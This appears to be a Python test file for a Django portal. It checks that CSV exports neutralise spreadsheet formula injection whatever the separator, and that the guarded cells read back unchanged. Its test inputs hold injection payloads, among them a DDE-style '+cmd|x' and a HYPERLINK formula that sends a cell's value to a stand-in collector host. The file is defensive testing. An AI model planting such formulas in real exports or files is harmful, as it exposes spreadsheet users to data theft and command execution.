"""CSV that nobody's spreadsheet runs, whatever separates its cells; and the same text when it is read back."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

import tests
from portal.core.exports import csv_file, guard, unguard
from tests.world import World

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TEXTS = st.one_of(st.text(), st.text(alphabet="'\"=+-@;,\t\r\n 1a\uff1d"))


def written(*rows: list[Any]) -> str:
    return b"".join(csv_file(["Name", "Text", "Last"], rows)).decode("utf-8-sig")


def cells(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-][0-9]+([.,][0-9]+)?([eE][+-]?[0-9]+)?", cell) is not None


def dangerous(text: str) -> list[str]:
    """Cells that a spreadsheet would run, by comma, semicolon or tab; a number in a cell of its own is none."""
    return [
        f"{separator!r}: {cell!r}"
        for separator in ",;\t"
        for row in cells(text, separator)
        for cell in row
        if cell.startswith(tuple(SIGNS)) and not (separator == "," and is_number(cell))
    ]


@pytest.mark.parametrize(
    "evil",
    [
        "=1+1",
        "+cmd|x",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "'=1",
        "\uff1d1",
        "x;=1+1;y",
        'Slips are given;=HYPERLINK("http://collector.example/?"&A1,"open");end',
        'x;"=1+1',
        'x; ""=1+1',
        "Line one\n=1+1+cmd",
        "Line one\r\n=1+1+cmd",
        "Line one\r=1+1+cmd",
        "Tab\t=2+2",
        "x;\t=1",
        "x;",
        "x\t",
        'x;"',
        "x;'",
        'x;","=1+1',
    ],
)
def test_no_cell_is_run_and_each_comes_back(evil: str) -> None:
    """Alone, first or last of its row, before and after an innocent one."""
    for row in ([evil, "a", "b"], ["a", evil, "b"], ["a", "b", evil], [evil, evil, evil]):
        text = written(row, ["c", "d", "e"])
        assert dangerous(text) == []
        assert [[unguard(cell) for cell in found] for found in cells(text, ",")][1] == row


@pytest.mark.parametrize(
    "plain", ["-5", "+3.5", "-5,25", "-1e-7", "", "a=b", "'quoted'", "1", "a\r\nb", "A;B", "x - y"]
)
def test_a_harmless_cell_stays_as_it_is(plain: str) -> None:
    assert guard(plain) == plain
    assert unguard(plain) == plain


def test_numbers_stay_numbers_but_where_a_row_begins() -> None:
    text = written([-5, -5, -2.5], [1, -1e-7, None])
    assert cells(text, ",")[1:] == [["'-5", "-5", "-2.5"], ["1", "-1e-07", ""]]
    assert dangerous(text) == []


@given(TEXTS)
def test_unguard_is_the_inverse_of_guard(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.lists(st.lists(TEXTS, min_size=3, max_size=3), max_size=4))
def test_whichever_separator_splits_it_no_cell_is_run(rows: list[list[str]]) -> None:
    assert dangerous(written(*rows)) == []


def test_every_cell_is_quoted() -> None:
    assert written(["a", 1, None]) == '"Name","Text","Last"\r\n"a","1",""\r\n'


def test_there_is_one_writer_of_csv() -> None:
    """Nothing else of ours calls `csv.writer`."""
    house = Path(tests.__file__).parent.parent
    apps = ("portal", "factories", "brands", "sharing", "assessments")
    files = [path for app in apps for path in (house / app).rglob("*.py")]
    writers = [str(path.relative_to(house)) for path in files if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())]
    assert writers == ["portal/core/exports.py"]


def test_another_organisations_member_is_no_formula_in_who_saw_what(world: World, client_of: Any) -> None:
    member = world.person("brand_a_member")
    member.name = 'x;=HYPERLINK("http://example.com")'
    member.save()
    world.grant()
    client_of(member).get(reverse("assessment", args=[world.assessments["a2"].pk]))
    page = client_of(world.person("manager_a")).get(
        reverse("who_saw", args=[world.factory_a.pk]), {"format": "csv", "period": "all"}
    )
    text = page.getvalue().decode("utf-8-sig")
    assert "HYPERLINK" in text
    assert dangerous(text) == []
